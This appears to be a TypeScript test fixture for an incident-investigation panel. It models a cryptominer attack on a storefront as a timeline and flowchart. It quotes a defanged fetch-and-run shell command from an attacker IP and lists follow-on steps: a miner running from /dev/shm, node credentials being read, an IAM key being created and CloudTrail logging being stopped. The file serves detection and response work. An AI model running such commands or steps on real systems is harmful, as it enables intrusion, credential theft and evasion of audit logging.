import type { CaseView } from '../../src/webview/protocol/casePanel.ts';

const mermaid = `flowchart LR
  subgraph B2["storefront (3f2a9c81d7be)"]
    S2["09:12:38 java starts bash -c ”curl -s hxxp://198[.]51[.]100[.]23/i.sh | bash”"]
    S3["09:12:43 kdevtmpfsi runs from /dev/shm, 3 times"]
  end
  subgraph B4["AWS 123456789012"]
    S5["09:19:05 iam:CreateAccessKey for backup-admin"]
    S6["09:20:11 cloudtrail:StopLogging on org-trail"]
    S7["09:22:40 s3:DeleteBucketPublicAccessBlock on acme-orders"]
  end
  S1["09:12:31 Internet - Tomcat receives a request from 198[.]51[.]100[.]23"]
  S4["09:13:22 node ip-10-20-3-41 - curl reads the credentials of the node role"]
  S1 -.->|"09:12:38"| S2
  S2 -->|"09:12:43"| S3
  S3 -.->|"09:13:22"| S4
  S4 -->|"09:19:05"| S5
  S5 -->|"09:20:11"| S6
  S5 -->|"09:22:40"| S7
  classDef cloud stroke:#bf8803,stroke-width:2px
  classDef external stroke:#717171,stroke-width:2px,stroke-dasharray:4 3
  classDef entry stroke:#1a85ff,stroke-width:3px
  classDef malicious stroke:#e51400,stroke-width:3px
  class S5,S6,S7 cloud
  class S1 external
  class S1 entry
  class S3,S4,S6 malicious
`;

const step = (id: string, time: string, boundary: string, action: string, role: 'entry' | 'malicious' | 'step', ...cites: string[]) => ({
  ...{ id, at: `2026-06-10T${time}.000Z`, boundary, action, role, cites },
});

export const storefrontView: CaseView = {
  trigger: '019eb0ce-2f6e-7a1c-9b52-3d4e5f607182',
  title: 'Cryptominer dropped through storefront web shell',
  tenant: { name: 'acme', region: 'eu1', sample: true },
  tactic: 'Execution (TA0002, T1059.004)',
  confidence: 4,
  status: 'partial',
  summary: [
    {
      markdown: '`bash` started by `java` in **shop/storefront** at 2026-06-10 09:12:38Z; then `kdevtmpfsi` ran from `/dev/shm`.',
      cites: ['E1', 'E3'],
    },
    {
      markdown: 'Confidence that this is one attack: 4/5; not everything was read: cluster sweep shows 100 items of 3,112.',
      cites: ['E9'],
    },
  ],
  notLookedAt: [
    { markdown: 'Vulnerabilities: not looked at by this version.', cites: ['E1'] },
    { markdown: 'Cloud account: not looked at by this version.', cites: ['E1'] },
  ],
  lookedAt: [
    { markdown: 'syscall events in cluster prod-eu-1, ±2 h: 100 of 3,112 read', cites: ['E9'] },
    { markdown: 'host-level events on node-3-41 in the 7 days before: nothing', cites: ['E7'] },
  ],
  reach: { around: 2, before: 168 },
  wider: { around: 6, before: 336 },
  flow: {
    status: 'done',
    mermaid,
    steps: [
      step('S1', '09:12:31', 'Internet', 'Tomcat receives a request from 198[.]51[.]100[.]23', 'entry', 'E2'),
      step(
        'S2',
        '09:12:38',
        'storefront (3f2a9c81d7be)',
        'java starts bash -c "curl -s hxxp://198[.]51[.]100[.]23/i.sh | bash"',
        'step',
        'E3',
      ),
      step('S3', '09:12:43', 'storefront (3f2a9c81d7be)', 'kdevtmpfsi runs from /dev/shm, 3 times', 'malicious', 'E4'),
      step('S4', '09:13:22', 'node ip-10-20-3-41', 'curl reads the credentials of the node role', 'malicious', 'E5'),
      step('S5', '09:19:05', 'AWS 123456789012', 'iam:CreateAccessKey for backup-admin', 'step', 'E6'),
      step('S6', '09:20:11', 'AWS 123456789012', 'cloudtrail:StopLogging on org-trail', 'malicious', 'E7'),
      step('S7', '09:22:40', 'AWS 123456789012', 's3:DeleteBucketPublicAccessBlock on acme-orders', 'step', 'E8'),
    ],
  },
  caseFile: '/tmp/case.md',
};
